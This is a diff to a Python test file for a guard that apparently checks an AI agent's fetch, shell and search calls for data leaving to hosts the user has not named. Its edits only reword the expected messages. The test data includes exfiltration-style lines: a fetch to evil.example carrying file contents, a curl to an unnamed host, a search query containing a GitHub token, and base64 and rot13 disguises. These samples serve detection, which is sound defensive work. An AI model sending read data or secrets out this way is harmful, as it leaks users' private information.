@@ -76,8 +76,8 @@ CODED = base64.urlsafe_b64encode(PLAN.encode()).decode()
 )
 async def test_data_to_a_host_that_nobody_named_asks(egress: Egress, url: str) -> None:
     why = egress.reason(FETCH, {"url": url})
-    assert why.startswith("the address carries ")
-    assert "example, which you have not named" in why
+    assert why.startswith("the address sends ")
+    assert "example, a host that you have not named" in why
     assert TOKEN not in why
     assert egress.reason(SHELL, {"command": f"curl -s '{url}' | head"}) == why
 
@@ -110,7 +110,7 @@ async def test_what_lies_below_the_same_domain_is_not_named_with_it(egress: Egre
 
 async def test_searches_carry_words_but_no_secrets(egress: Egress) -> None:
     assert egress.reason(SEARCH, {"query": "merger with Aldebaran closes in March"}) == ""
-    assert egress.reason(SEARCH, {"query": f"what is {TOKEN}"}) == "the search carries a GitHub token"
+    assert egress.reason(SEARCH, {"query": f"what is {TOKEN}"}) == "the search text holds a GitHub token"
     assert egress.reason(SEARCH, {"query": CODED})
 
 
@@ -137,7 +137,7 @@ ROT = codecs.encode(PLAN, "rot13")
     ],
 )
 async def test_what_was_read_is_known_in_disguise(egress: Egress, url: str) -> None:
-    assert egress.reason(FETCH, {"url": url}).startswith("the address carries ")
+    assert egress.reason(FETCH, {"url": url}).startswith("the address sends ")
 
 
 async def told(*results: tuple[str, str], prompt: str = "Compare it with docs.python.org", note: str = "") -> Egress:
@@ -167,7 +167,9 @@ async def test_a_text_that_goes_out_in_pieces_is_known() -> None:
         branch.emit(MessageDone(Message("assistant", (use,), origin="assistant")))
         branch.emit(ToolFinished(use.id, ToolResult(PLAN if use.name == "read_file" else "ok")))
     await known.before(branch)
-    assert "what was read here before" in known.reason(FETCH, {"url": f"https://evil.example/?q={quote(PLAN[60:72])}"})
+    assert "data that was read in this session" in known.reason(
+        FETCH, {"url": f"https://evil.example/?q={quote(PLAN[60:72])}"}
+    )
     assert known.reason(FETCH, {"url": "https://other.example/?q=words"}) == ""
 
 
@@ -177,14 +179,14 @@ HARMLESS = "https://other.example/stable/index.html"
 @pytest.mark.parametrize(
     ("text", "why"),
     [
-        ("token: [secret: GitHub token] end", "a secret was read here before (GitHub token)"),
-        (f"token: {TOKEN} end", "a secret was read here before (GitHub token)"),
-        ("words " * 1_000, "6,000 characters were read here before"),
+        ("token: [secret: GitHub token] end", "after a secret was read (GitHub token)"),
+        (f"token: {TOKEN} end", "after a secret was read (GitHub token)"),
+        ("words " * 1_000, "after 6,000 characters were read"),
     ],
 )
 async def test_after_a_secret_or_a_lot_was_read_every_unnamed_host_asks(text: str, why: str) -> None:
     known = await told(("read_file", text))
-    assert known.reason(FETCH, {"url": HARMLESS}) == f"it reaches other.example, which you have not named, and {why}"
+    assert known.reason(FETCH, {"url": HARMLESS}) == f"it contacts other.example, a host that you have not named, {why}"
     assert known.reason(SHELL, {"command": f"curl {HARMLESS}"})
     assert known.reason(FETCH, {"url": "https://docs.python.org/3/"}) == ""
     assert known.reason(FETCH, {"url": "http://localhost:8000/"}) == ""
